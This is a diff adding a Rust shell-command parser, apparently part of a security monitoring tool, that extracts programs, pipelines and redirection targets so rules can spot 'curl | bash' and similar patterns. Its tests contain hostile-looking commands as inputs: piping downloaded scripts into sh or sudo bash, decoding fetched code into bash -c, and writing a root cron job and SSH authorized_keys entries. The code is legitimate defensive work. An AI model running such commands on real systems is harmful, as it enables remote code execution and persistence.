@@ -0,0 +1,368 @@
+//! Structure of the command strings run with `sh -c`, so rules can detect a
+//! `curl ... | bash` hidden in the arguments of a single exec.
+//!
+//! The parser doesn't run any expansion: it splits the command into simple
+//! commands, pipelines and redirections with the quoting rules of POSIX
+//! shells, which is enough to tell which programs are run and how they're
+//! connected. Command substitutions like `$(curl ...)` are parsed as well.
+
+use std::fmt;
+
+use serde::{Deserialize, Serialize};
+use validatron::Validatron;
+
+/// Nesting of command substitutions parsed, like `$(echo $(id))`.
+const MAX_DEPTH: usize = 4;
+
+/// Words starting a compound command, which are not programs.
+const RESERVED_WORDS: &[&str] = &[
+    "!", "{", "}", "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "time",
+    "esac",
+];
+
+/// Commands structured differently, which are skipped entirely.
+const SKIPPED_WORDS: &[&str] = &["for", "case", "select", "function"];
+
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize, Validatron)]
+pub struct ShellCommand {
+    /// Program of every simple command, without its directory, like `curl`
+    pub programs: Vec<String>,
+    /// Pipelines of two commands or more, as their programs joined by `|`,
+    /// like `curl|bash`
+    pub pipelines: Vec<String>,
+    /// Files written or read by redirections, like `/etc/cron.d/job` in
+    /// `echo ... > /etc/cron.d/job`
+    pub redirections: Vec<String>,
+}
+
+impl ShellCommand {
+    /// Parse a command string. Syntax errors, like unterminated quotes, end the
+    /// parsing at the point of the error.
+    pub fn parse(command: &str) -> Self {
+        let mut shell_command = Self::default();
+        shell_command.parse_nested(command, 0);
+        shell_command
+    }
+
+    fn parse_nested(&mut self, command: &str, depth: usize) {
+        let mut substitutions = Vec::new();
+        let tokens = tokenize(command, &mut substitutions);
+
+        let mut pipeline: Vec<String> = Vec::new();
+        let mut in_command = false;
+        let mut redirection = None;
+        for token in tokens {
+            match token {
+                Token::Word(word) => match redirection.take() {
+                    Some(Redirection { target_is_fd }) => {
+                        if !target_is_fd {
+                            self.redirections.push(word);
+                        }
+                    }
+                    None if in_command
+                        || is_assignment(&word)
+                        || RESERVED_WORDS.contains(&word.as_str()) => {}
+                    None if SKIPPED_WORDS.contains(&word.as_str()) => in_command = true,
+                    None => {
+                        let program = word.rsplit('/').next().unwrap_or_default().to_string();
+                        self.programs.push(program.clone());
+                        pipeline.push(program);
+                        in_command = true;
+                    }
+                },
+                Token::Redirection(next) => redirection = Some(next),
+                Token::Pipe => in_command = false,
+                Token::Separator => {
+                    self.end_pipeline(&mut pipeline);
+                    in_command = false;
+                }
+            }
+        }
+        self.end_pipeline(&mut pipeline);
+
+        if depth < MAX_DEPTH {
+            for substitution in substitutions {
+                self.parse_nested(&substitution, depth + 1);
+            }
+        }
+    }
+
+    fn end_pipeline(&mut self, pipeline: &mut Vec<String>) {
+        if pipeline.len() > 1 {
+            self.pipelines.push(pipeline.join("|"));
+        }
+        pipeline.clear();
+    }
+}
+
+impl fmt::Display for ShellCommand {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(
+            f,
+            "{{ programs: [{}], pipelines: [{}], redirections: [{}] }}",
+            self.programs.join(", "),
+            self.pipelines.join(", "),
+            self.redirections.join(", ")
+        )
+    }
+}
+
+#[derive(Debug, PartialEq, Eq)]
+enum Token {
+    Word(String),
+    /// `|` or `|&`
+    Pipe,
+    /// End of a pipeline: `;`, `&`, `&&`, `||`, newlines and parentheses
+    Separator,
+    /// Operator followed by the target of a redirection, like `>` or `2>>`
+    Redirection(Redirection),
+}
+
+#[derive(Debug, PartialEq, Eq)]
+struct Redirection {
+    /// The target is a file descriptor, like in `2>&1`, or a here-document
+    /// delimiter
+    target_is_fd: bool,
+}
+
+/// Split `command` into tokens, removing the quotes. The command strings of
+/// the substitutions are pushed to `substitutions`.
+fn tokenize(command: &str, substitutions: &mut Vec<String>) -> Vec<Token> {
+    let mut tokens = Vec::new();
+    // Current word, with `quoted` set if it had quotes, so that `""` is a word
+    let mut word = String::new();
+    let mut quoted = false;
+    // The next word is the delimiter of a here-document, whose lines are
+    // skipped from the next newline
+    let mut heredoc = false;
+    let mut delimiters = Vec::new();
+    let mut chars = command.chars().peekable();
+
+    macro_rules! end_word {
+        () => {
+            if !word.is_empty() || quoted {
+                if heredoc {
+                    delimiters.push(word.clone());
+                    heredoc = false;
+                }
+                tokens.push(Token::Word(std::mem::take(&mut word)));
+                quoted = false;
+            }
+        };
+    }
+
+    while let Some(c) = chars.next() {
+        match c {
+            ' ' | '\t' => end_word!(),
+            '\n' => {
+                end_word!();
+                tokens.push(Token::Separator);
+                for delimiter in delimiters.drain(..) {
+                    while chars.peek().is_some() {
+                        let line: String = chars.by_ref().take_while(|c| *c != '\n').collect();
+                        if line.trim_start_matches('\t') == delimiter {
+                            break;
+                        }
+                    }
+                }
+            }
+            ';' | '(' | ')' => {
+                end_word!();
+                tokens.push(Token::Separator);
+            }
+            '#' if word.is_empty() && !quoted => {
+                // Comment until the end of the line
+                while chars.next_if(|c| *c != '\n').is_some() {}
+            }
+            '|' => {
+                end_word!();
+                if chars.next_if_eq(&'|').is_some() {
+                    tokens.push(Token::Separator);
+                } else {
+                    chars.next_if_eq(&'&');
+                    tokens.push(Token::Pipe);
+                }
+            }
+            '&' if chars.peek() == Some(&'>') => {
+                end_word!();
+                chars.next();
+                chars.next_if_eq(&'>');
+                tokens.push(Token::Redirection(Redirection {
+                    target_is_fd: false,
+                }));
+            }
+            '&' => {
+                end_word!();
+                chars.next_if_eq(&'&');
+                tokens.push(Token::Separator);
+            }
+            '>' | '<' => {
+                // A file descriptor number before the operator is part of it
+                if !quoted && !word.is_empty() && word.chars().all(|c| c.is_ascii_digit()) {
+                    word.clear();
+                }
+                end_word!();
+                let mut target_is_fd = false;
+                if c == '<' && chars.next_if_eq(&'<').is_some() {
+                    // Here-document delimiter, or here-string with `<<<`
+                    target_is_fd = chars.next_if_eq(&'<').is_none();
+                    heredoc = target_is_fd;
+                    chars.next_if_eq(&'-');
+                } else if chars.next_if_eq(&'&').is_some() {
+                    target_is_fd = true;
+                } else {
+                    chars.next_if(|next| *next == c || *next == '|' || *next == '>');
+                }
+                tokens.push(Token::Redirection(Redirection { target_is_fd }));
+            }
+            '\\' => {
+                if let Some(next) = chars.next() {
+                    if next != '\n' {
+                        word.push(next);
+                    }
+                }
+            }
+            '\'' => {
+                quoted = true;
+                word.extend(chars.by_ref().take_while(|c| *c != '\''));
+            }
+            '"' => {
+                quoted = true;
+                while let Some(c) = chars.next() {
+                    match c {
+                        '"' => break,
+                        '\\' => {
+                            if let Some(next) = chars.next() {
+                                if !matches!(next, '"' | '\\' | '$' | '`') {
+                                    word.push('\\');
+                                }
+                                word.push(next);
+                            }
+                        }
+                        '$' if chars.peek() == Some(&'(') => {
+                            chars.next();
+                            let substitution = substitution(&mut chars);
+                            word.push_str(&format!("$({substitution})"));
+                            substitutions.push(substitution);
+                        }
+                        '`' => {
+                            let substitution: String =
+                                chars.by_ref().take_while(|c| *c != '`').collect();
+                            word.push_str(&format!("`{substitution}`"));
+                            substitutions.push(substitution);
+                        }
+                        c => word.push(c),
+                    }
+                }
+            }
+            '$' if chars.peek() == Some(&'(') => {
+                chars.next();
+                let substitution = substitution(&mut chars);
+                word.push_str(&format!("$({substitution})"));
+                substitutions.push(substitution);
+            }
+            '`' => {
+                let substitution: String = chars.by_ref().take_while(|c| *c != '`').collect();
+                word.push_str(&format!("`{substitution}`"));
+                substitutions.push(substitution);
+            }
+            c => word.push(c),
+        }
+    }
+    if !word.is_empty() || quoted {
+        tokens.push(Token::Word(word));
+    }
+    tokens
+}
+
+/// Command string of a `$(...)` substitution, consuming its closing
+/// parenthesis.
+fn substitution(chars: &mut std::iter::Peekable<std::str::Chars>) -> String {
+    let mut substitution = String::new();
+    let mut depth = 0;
+    let mut quote = None;
+    for c in chars.by_ref() {
+        match (c, quote) {
+            ('\'' | '"', None) => quote = Some(c),
+            (c, Some(q)) if c == q => quote = None,
+            ('(', None) => depth += 1,
+            (')', None) if depth == 0 => break,
+            (')', None) => depth -= 1,
+            _ => {}
+        }
+        substitution.push(c);
+    }
+    substitution
+}
+
+/// Variable assignment before a command, like `LANG=C` in `LANG=C sort`.
+fn is_assignment(word: &str) -> bool {
+    match word.split_once('=') {
+        Some((name, _)) => {
+            name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
+                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+        }
+        None => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn list(items: &[&str]) -> Vec<String> {
+        items.iter().map(|item| item.to_string()).collect()
+    }
+
+    #[test]
+    fn pipelines() {
+        let command = ShellCommand::parse("curl -fsSL https://example.com/x.sh | sudo bash");
+        assert_eq!(command.programs, list(&["curl", "sudo"]));
+        assert_eq!(command.pipelines, list(&["curl|sudo"]));
+
+        let command = ShellCommand::parse(
+            "cd /tmp && wget -qO- http://10.0.0.1/a|/bin/sh; LANG=C sort -u x | uniq -c | head",
+        );
+        assert_eq!(
+            command.programs,
+            list(&["cd", "wget", "sh", "sort", "uniq", "head"])
+        );
+        assert_eq!(command.pipelines, list(&["wget|sh", "sort|uniq|head"]));
+    }
+
+    #[test]
+    fn quotes() {
+        let command = ShellCommand::parse(r#"echo 'a | b' "c; d" e\|f | "/usr/bin/python3" -"#);
+        assert_eq!(command.programs, list(&["echo", "python3"]));
+        assert_eq!(command.pipelines, list(&["echo|python3"]));
+    }
+
+    #[test]
+    fn redirections() {
+        let command = ShellCommand::parse(
+            "echo '* * * * * root sh /tmp/x' > /etc/cron.d/job 2>&1; cat <<EOF >>'/root/.ssh/authorized_keys' 2>/dev/null",
+        );
+        assert_eq!(command.programs, list(&["echo", "cat"]));
+        assert_eq!(
+            command.redirections,
+            list(&["/etc/cron.d/job", "/root/.ssh/authorized_keys", "/dev/null"])
+        );
+
+        let command =
+            ShellCommand::parse("cat > /tmp/x.sh <<'EOF'\ncurl x | sh\nEOF\nsh /tmp/x.sh");
+        assert_eq!(command.programs, list(&["cat", "sh"]));
+        assert!(command.pipelines.is_empty());
+    }
+
+    #[test]
+    fn substitutions() {
+        let command =
+            ShellCommand::parse(r#"bash -c "$(curl -s https://example.com | base64 -d)""#);
+        assert_eq!(command.programs, list(&["bash", "curl", "base64"]));
+        assert_eq!(command.pipelines, list(&["curl|base64"]));
+
+        let command = ShellCommand::parse("for f in $(ls /tmp); do rm $f; done # | bash");
+        assert_eq!(command.programs, list(&["rm", "ls"]));
+        assert!(command.pipelines.is_empty());
+    }
+}